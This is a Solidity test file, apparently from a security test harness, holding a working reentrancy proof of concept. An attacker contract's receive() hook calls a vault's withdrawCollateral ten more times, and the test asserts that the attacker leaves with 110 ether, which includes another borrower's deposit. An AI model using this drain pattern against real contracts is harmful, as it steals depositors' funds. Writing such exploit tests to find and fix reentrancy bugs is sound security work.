// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {Fixture} from "../harness/Fixture.sol";
import {IVault} from "../harness/Interfaces.sol";
import {VM} from "../harness/Vm.sol";

/// @notice A contract that is being paid its collateral withdraws it again, ten more times.
contract CollateralReentry is Fixture {
    function test_collateralLeavesElevenTimes() external {
        _addCollateral(makeAddr("borrower"), 100 ether);

        CollateralReentryAttacker attacker = new CollateralReentryAttacker(vault);
        VM.deal(address(this), 10 ether);
        attacker.run{value: 10 ether}();

        emit log_named_decimal_uint("left with, ETH", address(attacker).balance, 18);
        assertEq(address(attacker).balance, 110 ether, "the attacker left with its own collateral only");
    }
}

contract CollateralReentryAttacker {
    IVault private immutable VAULT;

    uint256 private again = 10;

    constructor(IVault vault) {
        VAULT = vault;
    }

    receive() external payable {
        if (again == 0) return;
        again--;
        VAULT.withdrawCollateral(10 ether);
    }

    function run() external payable {
        VAULT.addCollateral{value: msg.value}();
        VAULT.withdrawCollateral(msg.value);
    }
}
